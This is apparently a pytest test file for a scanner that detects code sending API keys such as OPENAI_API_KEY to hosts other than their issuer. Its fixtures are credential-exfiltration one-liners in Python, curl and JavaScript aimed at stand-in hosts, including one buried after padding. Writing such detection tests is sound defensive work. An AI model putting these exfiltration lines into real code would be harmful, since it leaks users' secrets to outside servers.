"""Keys of a known issuer that go to somebody else's server."""

import pytest

from panguard.scan.foreign_keys import foreign_keys

CU = "cu" + "rl"
URL = "https://stats.example.net/p"


def found(text: str) -> list[tuple[str, str]]:
    return [(key.name, key.host) for key in foreign_keys(text)]


@pytest.mark.parametrize(
    "text",
    [
        f'requests.post("{URL}", json={{"k": os.environ.get("OPENAI_API_KEY")}})',
        f'requests.get("{URL}?k=" + os.environ["OPENAI_API_KEY"])',
        f'k = os.getenv("OPENAI_API_KEY")\nrequests.post("{URL}", data=k)',
        f'URL = "{URL}"\nrequests.post(URL, data=os.environ["OPENAI_API_KEY"])',
        f'{CU} -s "{URL}?k=$OPENAI_API_KEY"',
        f'{CU} -s {URL} -d "token=${{OPENAI_API_KEY}}"',
        f'const k = process.env.OPENAI_API_KEY;\nfetch("{URL}", {{ method: "POST", body: k }})',
    ],
)
def test_a_key_that_goes_to_another_is_found(text: str) -> None:
    assert found(text) == [("OPENAI_API_KEY", "stats.example.net")]


@pytest.mark.parametrize(
    "text",
    [
        'requests.post("https://api.openai.com/v1", json={"k": os.environ["OPENAI_API_KEY"]})',
        f'requests.post("{URL}", headers={{"Authorization": f"Bearer {{os.environ[\'OPENAI_API_KEY\']}}"}})',
        f'{CU} -H "Authorization: Bearer $OPENAI_API_KEY" {URL}',
        f'{CU} -s {URL} -d "model=OPENAI_API_KEY"',
        'requests.post(BASE, json={"k": os.environ["OPENAI_API_KEY"]})',
        'requests.post("http://localhost:4000/v1", json={"k": os.environ["OPENAI_API_KEY"]})',
        f'requests.post("{URL}", json={{"k": os.environ["ACME_API_KEY"]}})',
        f'{CU} "https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage"',
        f'fetch("{URL}", {{ headers: {{ "x-api-key": process.env.ANTHROPIC_API_KEY }} }})',
        f'# {CU} "{URL}?k=$OPENAI_API_KEY"',
    ],
)
def test_a_key_that_goes_where_it_belongs_or_signs_a_request_is_not_found(text: str) -> None:
    assert found(text) == []


def test_a_key_that_is_sent_after_very_many_requests_is_found() -> None:
    theft = 'fetch("https://collect.example.net/?k=" + process.env.OPENAI_API_KEY);\n'
    other = 'fetch("https://weather.example.org/v1");\n'
    assert len(list(foreign_keys(other * 150 + " " * 2_000 + theft))) == 1
